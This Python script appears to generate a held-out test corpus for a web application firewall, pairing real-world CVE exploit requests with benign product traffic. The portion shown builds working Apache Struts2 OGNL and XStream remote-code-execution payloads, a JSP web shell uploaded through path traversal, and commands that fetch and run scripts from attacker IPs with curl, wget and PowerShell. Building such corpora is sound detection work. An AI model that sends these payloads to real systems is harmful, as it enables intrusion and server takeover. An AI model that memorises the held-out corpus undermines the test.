#!/usr/bin/env python3
"""Held-out HTTP test corpus: real-world exploit traffic for well-known CVEs
and product weaknesses (2014-2026), and ordinary traffic of the same products.

What it is
    A deterministic generator of HTTP requests against products commonly run
    in Kubernetes or behind a sidecar: Apache Struts2, Spring Boot / Cloud
    Function / Cloud Gateway, Atlassian Confluence / Jira / Bitbucket, GitLab,
    Jenkins, Apache httpd, Grafana, Kibana / Elasticsearch, Solr, Exchange OWA,
    SharePoint, VMware vCenter / Horizon / Workspace ONE, Citrix, F5 BIG-IP,
    Fortinet, Pulse / Ivanti, WordPress, Magento, Drupal, WebLogic, JBoss,
    ActiveMQ, Zimbra, Nacos, OFBiz, PaperCut, MOVEit, Laravel, ThinkPHP...

    * attacks      ~300 requests (expect "detect") in the request shapes that
                   exploit scripts, nuclei templates and botnets send: Struts2
                   Content-Type / namespace / parameter OGNL (S2-045/046/057/
                   032/048/053/061/052/066/067, devMode), Spring4Shell, Spring
                   Cloud Function routing-expression and Gateway route SpEL,
                   actuator abuse, Thymeleaf view manipulation, Log4Shell in a
                   dozen headers and bodies with the known obfuscations
                   (${::-j}, ${lower:}, ${env:NaN:-}, ${date:}, dotless i,
                   \\u0024\\u007b, base64 lookup, 127.0.0.1#host...), Confluence
                   OGNL in the URI and in queryString / text-inline.vm,
                   Jira/Confluence WEB-INF reads via /s/x/_/;/, Bitbucket
                   archive argument injection, GitLab ExifTool DjVu and upload
                   traversal, Jenkins script console / sandbox bypass / args4j
                   @file, httpd 2.4.49/50 (/.%2e/, %%32%65), Grafana plugin
                   traversal, Citrix / F5 (..;/) / Fortinet / Pulse / Ivanti
                   paths, ProxyLogon / ProxyShell / ProxyNotShell, SharePoint
                   ToolShell and DataSet, vCenter uploadova / vSAN JNDI /
                   analytics, Workspace ONE FreeMarker, Drupalgeddon 1/2/3,
                   ThinkPHP invokefunction, PHPUnit eval-stdin, Ignition,
                   PHP-CGI %AD, WordPress plugin SQLi / uploads, MOVEit,
                   FortiWeb, Ivanti EPM, Magento Shoplift (base64) / CosmicSting
                   / template filter, WebLogic XMLDecoder / console / UDDI,
                   JBoss invoker + JMX console, fastjson / Jackson, OFBiz
                   (groovyProgram, \\u-escaped), GeoServer, Metabase, Druid,
                   Solr Velocity / DIH / xmlparser / replication, ES Groovy,
                   Kibana Timelion, Nacos, PaperCut, Shellshock, ImageTragick /
                   GhostScript / PNG profile uploads, Cacti, Zyxel, PAN-OS,
                   APISIX, ingress-nginx admission, kubelet / Docker / Consul /
                   YARN APIs, SSRF to cloud metadata (decimal, hex, octal,
                   IPv6-mapped, nip.io, GCP / Alibaba, gopher) through
                   webhooks, data sources and PDF renderers, XXE in SAML
                   (base64 and raw), SOAP, SVG, WebDAV and XInclude, CRLF,
                   request smuggling, CitrixBleed, scanner probes.
    * benign       ~540 ordinary requests (expect "pass", category "benign") of
                   the same products as real users, UIs, agents and API clients
                   send them: Confluence storage-format pages, CQL, static
                   /s/...-CDN/.../_/download/batch paths, macro previews; Jira
                   JQL, wiki markup, QuickCreateIssue!default.jspa; GitLab
                   markdown with quick actions, GraphQL, uploads/<hash>/ paths;
                   Jenkins job config.xml (no Groovy), crumbs, progressive log;
                   Grafana dashboards with PromQL / LogQL / legend and alert
                   templates ({{instance}}, {{ $labels.x }}), SQL panels, plugin
                   assets under /public/plugins/; Kibana KQL and bsearch; ES
                   bulk / painless update / SQL API; Solr local params
                   ({!geofilt}, {!tag}, {!term}), edismax, highlighting with
                   <em>; OWA service.svc JSON with HTML mail, EWS, autodiscover
                   (XML and the v1.0 JSON path), ActiveSync; SharePoint REST /
                   OData $filter, CSOM, CAML; WordPress Gutenberg block markup,
                   heartbeat, WooCommerce; Magento checkout REST, GraphQL, CMS
                   blocks with {{widget}} / {{media}} directives; Drupal
                   element_parents file AJAX, views AJAX, JSON:API filters;
                   Spring actuator probes, dotted form binding (address.street,
                   items[0].sku), spring.cloud.function.definition; Struts
                   dotted parameters and JSON validation; Nacos config with
                   ${DB_PASSWORD} placeholders; Jolokia reads; SAML responses;
                   remote-access gateway logins (incl. /remote/fgt_lang?lang=en).
                   Names such as O'Brien, D'Souza, Ó Súilleabháin, Núñez.
                   Plus 50 "dev-content" requests (category "dev-content", still
                   "pass", counted apart): shell runbooks, SQL reports and
                   migrations, stack traces, Jenkinsfiles, Dockerfiles,
                   manifests, nginx/httpd config, PowerShell, PHP/JS snippets,
                   LDAP filters, a metadata-endpoint runbook, a QA XSS repro,
                   pasted into Confluence, Jira, GitLab, Bitbucket, SharePoint,
                   WordPress, Jenkins, Kibana Dev Tools and GitLab CI lint.

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-cves.py attacks > rulesets/tests/data/cves-attacks.jsonl
    python3 scripts/corpus-cves.py benign  > rulesets/tests/data/cves-benign.jsonl
    python3 scripts/corpus-cves.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id", "set": "cves", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it; raw "\\", "[]", "..;/",
     "<?=...?>" etc. where the exploit sends them raw), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}
Host is always the first header; Content-Length is the body's UTF-8 byte
length.  Binary payloads (DjVu, tar, ZIP, PNG/JPEG headers, Java serialized
streams, AJP) are approximated as text: bytes >= 0x80 are written as the
code points U+0080-U+00FF and so become two UTF-8 bytes on the wire.

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.
First sight (2026-12-05, repo at bc5c195, binary /work/bin/pr-base with its
built-in rules, threshold 5)
------------------------------------------------------------------------
Counts: 305 attacks (java 74, lfi 38, rce 34, ssrf 27, php 22, sqli 21,
ssti 16, xss 15, xxe 14, generic 8, scanner 8, crlf 6, nosqli 6, protocol 6,
rfi 6, ldapi 4), 592 benign (542 ordinary + 50 dev-content).
(protocol/smuggling-* and haproxy-cve-2021-40346 carry Transfer-Encoding or a
malformed Content-Length0aaa... header on purpose; every body's
Content-Length is its UTF-8 byte length.)

PL1 (flagged = blocked at paranoia 1), run once, nothing tuned:
  attacks blocked   284/305 = 93.1 %  (100 % in crlf, ldapi, nosqli, rfi,
                    ssti, xss, xxe; java 72/74, rce 33/34, sqli 20/21,
                    lfi 35/38, scanner 7/8, php 19/22, protocol 5/6,
                    ssrf 23/27, generic 3/8)
  benign blocked    13/542 = 2.4 % ordinary, 35/50 = 70 % dev-content
PL2: attacks 286/305 = 93.8 % (thinkphp-rce-004 and drupalgeddon3-001 also
  caught); benign 57/542 = 10.5 % ordinary, 37/50 = 74 % dev-content.

Missed at PL1 (21):
  java/confluence-cve-2023-22515-001   /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false (setup-flag reset, no payload syntax)
  generic/jira-cve-2022-0540-001       /InsightPluginShowGeneralConfiguration.jspa; (Seraph auth bypass by a trailing ";")
  generic/gitlab-cve-2023-7028-001     password reset with user[email][]=victim&user[email][]=attacker
  lfi/jenkins-cve-2024-23897-001       /cli?remoting=false binary CLI frame "help @/etc/passwd" (args4j @file)
  lfi/jenkins-cve-2024-23897-002       same, "connect-node @/var/jenkins_home/secrets/master.key"
  ssrf/exchange-proxyshell-001         /autodiscover/autodiscover.json?@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp
  ssrf/exchange-proxyshell-002         autodiscover.json?@foo.com/Powershell?X-Rps-CAT=...&Email=autodiscover/... (POST)
  ssrf/exchange-proxynotshell-001      autodiscover.json?a@foo.var/owa/&Email=...&Protocol=XYZ&FooProtocol=Powershell
  ssrf/exchange-owassrf-001            POST /owa/mastermailbox%40outlook.com/powershell (OWASSRF)
  generic/sharepoint-cve-2025-53770-001 ToolShell: ToolPane.aspx?DisplayMode=Edit, Referer /_layouts/SignOut.aspx, MSOTlPn_DWP ASP.NET markup with ExcelDataSet CompressedDataTable
  php/thinkphp-rce-004                 POST /index.php?s=captcha _method=__construct&filter[]=system&server[REQUEST_METHOD]=id (caught at PL2)
  php/drupalgeddon3-001                /node/1/delete?destination=node?q[%2523][]=passthru... (double-encoded #; caught at PL2)
  php/glpi-cve-2022-35914-001          POST htmLawedTest.php hhook=exec&text=id
  java/solr-cve-2019-17558-001         POST /solr/<core>/config enabling VelocityResponseWriter params.resource.loader (step 1 of the Velocity RCE)
  generic/nacos-cve-2021-29441-001     GET /nacos/v1/auth/users with User-Agent: Nacos-Server (auth bypass)
  sqli/nacos-derby-002                 multipart to /nacos/v1/cs/ops/data/removal: CALL sqlj.install_jar('http://.../exp.jar', ...)
  generic/papercut-cve-2023-27350-001  GET /app?service=page/SetupCompleted (auth bypass)
  rce/imagemagick-ghostscript-002      SVG upload with <image xlink:href="https://example.com/image.jpg&quot;|ls &quot;-la"> (ImageTragick)
  lfi/imagemagick-cve-2022-44268-001   PNG upload whose tEXt "profile" chunk names /etc/passwd
  protocol/citrixbleed-cve-2023-4966-001 GET /oauth/idp/.well-known/openid-configuration with a 24,812-byte Host header
  scanner/cve-probe-005                GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php probe, python-requests UA, no body

Ordinary benign flagged at PL1 (13):
  benign/solr-003 -004 -005 -006 -007 -009 -018 -019 -020   SolrJ clients' own User-Agent
                                       "Solr[org.apache.solr.client.solrj.impl.HttpSolrClient] 1.0" (java-110)
  benign/elasticsearch-012, -024       POST /_sql?format=txt "SELECT status, COUNT(*) AS n FROM "orders" ... GROUP BY" (ES SQL API)
  benign/grafana-018                   Grafana Postgres panel rawSql with the $__timeGroupAlias(created_at, '1h') macro (php-113)
  benign/gateways-004                  F5 iControl REST GET /mgmt/tm/ltm/pool?$select=... with Ansible's "ansible-httpget" UA (rce-111)
Ordinary benign flagged at PL2 only (44 more, 57 in all):
  Jira JQL (12: jira-002 -014 -015 -017 -019 -020 -024 -036 -037 -039 -041 -042: AND / ORDER BY / now() /
    "Story Points" > 3, also a webhook's JQL filter); Confluence CQL (6: confluence-003 -004 -021 -025 -026 -043);
  Grafana (8: PromQL sum(rate( in grafana-005 -009 -012 -022 -029 -032, SQL panel grafana-038, data source URL
    http://prometheus-server.monitoring.svc.cluster.local:9090 in grafana-019); Kibana saved-search KQL
    (3: kibana-012 -015 -024); Jenkins job config.xml with */${BRANCH} and dist/** (2: jenkins-009 -029);
  https URLs taken for RFI (6: exchange-006 -021 autodiscover AcceptableResponseSchema, wordpress-017 -035
    options.php home/siteurl, magento-006 -022 base64 "uenc" return URL in the path);
  Nacos (3: nacos-002 -008 long-poll listener without Accept and with \\x02/\\x01 separators,
    nacos-005 config with ${DB_USER} / ${DB_PASSWORD:changeme} placeholders); ActiveMQ Jolokia reads
    (4: activemq-002 -003 -006 -007, /api/jolokia/ path).

Dev-content flagged at PL1 by carrier: wordpress code block 6/6, bitbucket PR
comment 6/7, jira {code} comment 5/6, gitlab snippet 5/7, gitlab MR note 5/8,
confluence code macro 4/7, sharepoint KB item 3/6, jenkins pipeline
config.xml 1/1, gitlab CI lint 0/2 (shell runbooks, SQL, stack traces,
Dockerfile, manifests, nginx/httpd config, PHP/JS, /etc/passwd and metadata
runbooks are flagged; PowerShell, Terraform, Spring YAML, the log4j
mitigation note, the LDAP filter and the Groovy script-console snippet mostly
pass).  PL2: 37/50 (confluence 5/7, gitlab snippet 6/7).

No generator bug was found after the run; nothing was changed after it.
"""

import base64
import json
import random
import sys
import unicodedata
import urllib.parse as up

SET = "cves"


# --------------------------------------------------------------------------
# helpers
# --------------------------------------------------------------------------

def Q(s, safe=""):
    """Percent-encode everything except unreserved characters (and `safe`)."""
    return up.quote(s, safe=safe)


def QP(s, safe=""):
    """Form-style encoding (space as +)."""
    return up.quote_plus(s, safe=safe)


def form(pairs):
    """application/x-www-form-urlencoded body, as a browser or requests sends it."""
    return "&".join(f"{QP(k)}={QP(v)}" for k, v in pairs)


def qs(pairs, plus=False, safe=""):
    enc = QP if plus else Q
    return "&".join(f"{enc(k, safe)}={enc(v, safe)}" for k, v in pairs)


def hexs(rng, n):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def alnum(rng, n):
    return "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
                   for _ in range(n))


def digits(rng, n):
    return "".join(rng.choice("0123456789") for _ in range(n))


def uuid(rng):
    h = hexs(rng, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{rng.choice('89ab')}{h[17:20]}-{h[20:32]}"


def b64(s):
    return base64.b64encode(s.encode("utf-8")).decode("ascii")


def jdump(o):
    return json.dumps(o, separators=(",", ":"), ensure_ascii=False)


def jpretty(o):
    return json.dumps(o, ensure_ascii=False)


def mk(rid, cat, expect, method, host, uri, headers, body=None):
    hs = [["Host", host]] + [list(h) for h in headers]
    if body is not None and not any(h[0].lower() == "content-length" for h in hs):
        hs.append(["Content-Length", str(len(body.encode("utf-8")))])
    d = {"id": f"{SET}/{rid}", "set": SET, "category": cat, "expect": expect,
         "method": method, "uri": uri, "version": "HTTP/1.1", "headers": hs}
    if body is not None:
        d["body"] = body
    return d


def multipart(rng, parts, style=None):
    """parts: (name, filename or None, content-type or None, content)."""
    style = style or rng.choice(["chrome", "firefox", "python", "chrome"])
    if style == "chrome":
        b = "----WebKitFormBoundary" + alnum(rng, 16)
    elif style == "firefox":
        b = "-" * 27 + digits(rng, 29)
    elif style == "curl":
        b = "-" * 24 + hexs(rng, 16)
    else:
        b = hexs(rng, 32)
    out = []
    for name, filename, ctype, content in parts:
        out.append(f"--{b}\r\n")
        cd = f'Content-Disposition: form-data; name="{name}"'
        if filename is not None:
            cd += f'; filename="{filename}"'
        out.append(cd + "\r\n")
        if ctype:
            out.append(f"Content-Type: {ctype}\r\n")
        out.append("\r\n" + content + "\r\n")
    out.append(f"--{b}--\r\n")
    return "multipart/form-data; boundary=" + b, "".join(out)


BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
]

LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
         "fr-FR,fr;q=0.9,en;q=0.8", "nl-NL,nl;q=0.9,en;q=0.8", "es-ES,es;q=0.9",
         "en-US,en;q=0.5", "pl-PL,pl;q=0.9,en-US;q=0.8", "ja-JP,ja;q=0.9,en;q=0.8"]

ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8"
ACCEPT_JSON = "application/json, text/plain, */*"


def browser(rng, accept=ACCEPT_HTML, cookie=None, referer=None, extra=(), ua=None):
    h = [["User-Agent", ua or rng.choice(BROWSER_UAS)], ["Accept", accept],
         ["Accept-Language", rng.choice(LANGS)], ["Accept-Encoding", "gzip, deflate, br"]]
    if referer:
        h.append(["Referer", referer])
    if cookie:
        h.append(["Cookie", cookie])
    h.extend([list(x) for x in extra])
    return h


# what attack tooling sends: exploit scripts (requests / curl / Go), nuclei
# (random browser UA), botnets
ATK_UAS = [
    "python-requests/2.31.0",
    "python-requests/2.28.1",
    "curl/8.4.0",
    "curl/7.68.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.5060.134 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
]


def atk(rng, extra=(), accept="*/*", ua=None):
    h = [["User-Agent", ua or rng.choice(ATK_UAS)], ["Accept", accept]]
    r = rng.random()
    if r < 0.5:
        h.append(["Accept-Encoding", "gzip, deflate"])
    if r < 0.3 or r > 0.8:
        h.append(["Connection", "close"])
    h.extend([list(x) for x in extra])
    return h


TARGET_HOSTS = {
    "struts": ["app.example.com", "portal.corp.example.net", "10.20.4.17:8080", "struts-showcase.apps.example.io"],
    "spring": ["api.example.com", "orders.apps.example.io", "172.16.8.40:8080", "gateway.example.net"],
    "confluence": ["confluence.example.com", "wiki.corp.example.net", "10.1.2.30:8090"],
    "jira": ["jira.example.com", "issues.corp.example.net", "10.1.2.31:8080"],
    "bitbucket": ["bitbucket.example.com", "git.corp.example.net:7990"],
    "gitlab": ["gitlab.example.com", "code.corp.example.net"],
    "jenkins": ["jenkins.example.com", "ci.corp.example.net:8080", "10.9.0.12:8080"],
    "httpd": ["www.example.com", "203.0.113.24", "static.example.org"],
    "grafana": ["grafana.example.com", "monitoring.corp.example.net:3000", "10.3.0.5:3000"],
    "citrix": ["gateway.example.com", "vpn.corp.example.net", "citrix.example.org"],
    "f5": ["bigip-mgmt.example.com", "198.51.100.14", "10.0.0.245"],
    "fortinet": ["vpn.example.com", "sslvpn.corp.example.net:10443", "198.51.100.77"],
    "pulse": ["ra.example.com", "vpn2.corp.example.net", "203.0.113.90"],
    "exchange": ["mail.example.com", "owa.corp.example.net", "autodiscover.example.com"],
    "sharepoint": ["sharepoint.example.com", "intranet.corp.example.net"],
    "vmware": ["vcenter.example.com", "10.10.0.20", "horizon.corp.example.net"],
    "drupal": ["www.example.org", "cms.example.com"],
    "php": ["www.example.com", "shop.example.net", "203.0.113.51", "blog.example.org"],
    "wordpress": ["blog.example.com", "www.example.org", "news.example.net"],
    "weblogic": ["erp.example.com", "10.4.1.8:7001", "weblogic.corp.example.net"],
    "solr": ["solr.example.com:8983", "search.corp.example.net", "10.5.0.9:8983"],
    "elastic": ["es.example.com:9200", "10.5.0.20:9200", "kibana.example.com"],
    "misc": ["app.example.com", "10.6.0.15", "api.example.net"],
}


def th(rng, kind):
    return rng.choice(TARGET_HOSTS[kind])


OAST = ["oast.fun", "oast.pro", "oast.live", "interact.sh", "dnslog.cn", "burpcollaborator.net", "oast.me"]


def oast(rng):
    return f"c{hexs(rng, 19)}.{rng.choice(OAST)}"


def evil_ip(rng):
    return rng.choice(["45.155.205.233", "185.220.101.34", "194.26.29.102", "93.184.216.34",
                       "141.98.10.61", "5.181.80.120", "107.189.14.98", "20.124.8.77"])


# --------------------------------------------------------------------------
# output collector
# --------------------------------------------------------------------------

class Out:
    def __init__(self, expect):
        self.expect = expect
        self.rows = []
        self.n = {}

    def add(self, cat, group, method, host, uri, headers, body=None):
        k = (cat, group)
        self.n[k] = self.n.get(k, 0) + 1
        rid = f"{cat}/{group}-{self.n[k]:03d}"
        self.rows.append(mk(rid, cat, self.expect, method, host, uri, headers, body))


def R(name):
    return random.Random("cves:" + name)


# ==========================================================================
# ATTACKS
# ==========================================================================

# ---- Apache Struts2 -------------------------------------------------------

S2_045_FULL = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
               "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
               "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
               "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
               "(#context.setMemberAccess(#dm)))).(#cmd='CMD')."
               "(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))."
               "(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
               "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
               "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
               "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}")

S2_OGNL_EXEC = ("(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['struts.valueStack'].context)."
                "(#cr=#ct['com.opensymphony.xwork2.ActionContext.container'])."
                "(#ou=#cr.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
                "(#ou.getExcludedPackageNames().clear()).(#ou.getExcludedClasses().clear())."
                "(#ct.setMemberAccess(#dm)).(#a=@java.lang.Runtime@getRuntime().exec('CMD'))."
                "(@org.apache.commons.io.IOUtils@toString(#a.getInputStream()))")


def a_struts(o):
    rng = R("struts")
    cmds = ["id", "whoami", "cat /etc/passwd", "curl -fsSL http://%s/x.sh|sh" % evil_ip(rng), "uname -a",
            "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://%s/a.ps1')\"" % evil_ip(rng)]
    paths = ["/index.action", "/login.action", "/struts2-showcase/showcase.action", "/orders/list.action",
             "/portal/home.do", "/"]
    # S2-045 (CVE-2017-5638) in Content-Type
    for i in range(2):
        ct = S2_045_FULL.replace("CMD", cmds[i])
        if i == 1:
            ct = ct.replace("%{", "${", 1)
        m = rng.choice(["GET", "POST"])
        o.add("java", "struts-s2-045", m, th(rng, "struts"), rng.choice(paths),
              atk(rng, [("Content-Type", ct)]), "" if m == "POST" else None)
    o.add("java", "struts-s2-045", "GET", th(rng, "struts"), "/showcase.action",
          atk(rng, [("Content-Type", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Qualys-Response',233*233)}.multipart/form-data")]))
    # S2-046 (CVE-2017-5638) OGNL in the multipart filename with a NUL
    fn = "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream())).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}\x00b"
    ct, body = multipart(rng, [("foo", fn, "text/plain", "x")], style="python")
    o.add("java", "struts-s2-046", "POST", th(rng, "struts"), "/doUpload.action", atk(rng, [("Content-Type", ct)]), body)
    # S2-057 (CVE-2018-11776) OGNL in the namespace
    o.add("java", "struts-s2-057", "GET", th(rng, "struts"),
          "/struts2-showcase/" + Q("${" + S2_OGNL_EXEC.replace("CMD", "id") + "}") + "/actionChain1.action", atk(rng))
    o.add("java", "struts-s2-057", "GET", th(rng, "struts"), "/%24%7B233*233%7D/help.action", atk(rng))
    # S2-032 (CVE-2016-3081) method: prefix
    o.add("java", "struts-s2-032", "GET", th(rng, "struts"),
          "/index.action?method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23res%3d%40org.apache.struts2.ServletActionContext%40getResponse(),%23res.setCharacterEncoding(%23parameters.encoding%5B0%5D),%23w%3d%23res.getWriter(),%23s%3dnew+java.util.Scanner(@java.lang.Runtime@getRuntime().exec(%23parameters.cmd%5B0%5D).getInputStream()).useDelimiter(%23parameters.pp%5B0%5D),%23str%3d%23s.hasNext()%3f%23s.next()%3a%23parameters.ppp%5B0%5D,%23w.print(%23str),%23w.close(),1?%23xx:%23request.toString&pp=%5C%5CA&ppp=%20&encoding=UTF-8&cmd=id",
          atk(rng))
    # S2-048 / S2-053 / S2-001: OGNL in a form field
    o.add("java", "struts-s2-048", "POST", th(rng, "struts"), "/struts2-showcase/integration/saveGangster.action",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          form([("name", "%{" + S2_OGNL_EXEC.replace("CMD", "id").replace("#request['struts.valueStack'].context", "#context") + "}"),
                ("age", "22"), ("__checkbox_bustedBefore", "true"), ("description", "x")]))
    o.add("java", "struts-s2-053", "POST", th(rng, "struts"), "/hello.action",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "redirectUri=" + Q("%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='whoami').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))}\n"))
    # S2-061/062 (CVE-2020-17530 / CVE-2021-31805) InstanceManager / BeanMap
    o.add("java", "struts-s2-061", "POST", th(rng, "struts"), "/index.action",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "id=" + Q("%{(#instancemanager=#application[\"org.apache.tomcat.InstanceManager\"]).(#stack=#attr[\"com.opensymphony.xwork2.util.ValueStack.ValueStack\"]).(#bean=#instancemanager.newInstance(\"org.apache.commons.collections.BeanMap\")).(#bean.setBean(#stack)).(#context=#bean.get(\"context\")).(#bean.setBean(#context)).(#macc=#bean.get(\"memberAccess\")).(#bean.setBean(#macc)).(#emptyset=#instancemanager.newInstance(\"java.util.HashSet\")).(#bean.put(\"excludedClasses\",#emptyset)).(#bean.put(\"excludedPackageNames\",#emptyset)).(#arglist=#instancemanager.newInstance(\"java.util.ArrayList\")).(#arglist.add(\"id\")).(#execute=#instancemanager.newInstance(\"freemarker.template.utility.Execute\")).(#execute.exec(#arglist))}"))
    # S2 devMode debug=command
    o.add("java", "struts-devmode", "GET", th(rng, "struts"),
          "/orders.action?debug=command&expression=" + Q("(#_memberAccess[\"allowStaticMethodAccess\"]=true,#foo=new java.lang.Boolean(\"false\") ,#context[\"xwork.MethodAccessor.denyMethodExecution\"]=#foo,@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream()))"),
          atk(rng))
    # S2-052 (CVE-2017-9805) REST plugin XStream
    o.add("java", "struts-s2-052", "POST", th(rng, "struts"), "/struts2-rest-showcase/orders/3",
          atk(rng, [("Content-Type", "application/xml")]),
          """<map>
  <entry>
    <jdk.nashorn.internal.objects.NativeString>
      <flags>0</flags>
      <value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">
        <dataHandler>
          <dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">
            <is class="javax.crypto.CipherInputStream">
              <cipher class="javax.crypto.NullCipher">
                <initialized>false</initialized>
                <opmode>0</opmode>
                <serviceIterator class="javax.imageio.spi.FilterIterator">
                  <iter class="javax.imageio.spi.FilterIterator">
                    <iter class="java.util.Collections$EmptyIterator"/>
                    <next class="java.lang.ProcessBuilder">
                      <command>
                        <string>/bin/sh</string>
                        <string>-c</string>
                        <string>wget -qO- http://%s/s|sh</string>
                      </command>
                      <redirectErrorStream>false</redirectErrorStream>
                    </next>
                  </iter>
                  <filter class="javax.imageio.ImageIO$ContainsFilter">
                    <method>
                      <class>java.lang.ProcessBuilder</class>
                      <name>start</name>
                      <parameter-types/>
                    </method>
                    <name>foo</name>
                  </filter>
                  <next class="string">foo</next>
                </serviceIterator>
                <lock/>
              </cipher>
              <input class="java.lang.ProcessBuilder$NullInputStream"/>
              <ibuffer></ibuffer>
            </is>
          </dataSource>
        </dataHandler>
      </value>
    </jdk.nashorn.internal.objects.NativeString>
    <jdk.nashorn.internal.objects.NativeString reference="../jdk.nashorn.internal.objects.NativeString"/>
  </entry>
</map>""" % evil_ip(rng))
    # S2-066 / S2-067 (CVE-2023-50164 / CVE-2024-53677): upload filename override
    jsp = '<%@ page import="java.io.*" %><% String c=request.getParameter("c"); if(c!=null){ Process p=Runtime.getRuntime().exec(c); BufferedReader r=new BufferedReader(new InputStreamReader(p.getInputStream())); String l; while((l=r.readLine())!=null){ out.println(l);} } %>'
    ct, body = multipart(rng, [("Upload", "avatar.png", "image/png", jsp),
                               ("uploadFileName", None, None, "../../../../../usr/local/tomcat/webapps/ROOT/status.jsp")])
    o.add("java", "struts-s2-066", "POST", th(rng, "struts"), "/upload.action", atk(rng, [("Content-Type", ct)]), body)
    ct, body = multipart(rng, [("Upload", "notes.txt", "text/plain", jsp),
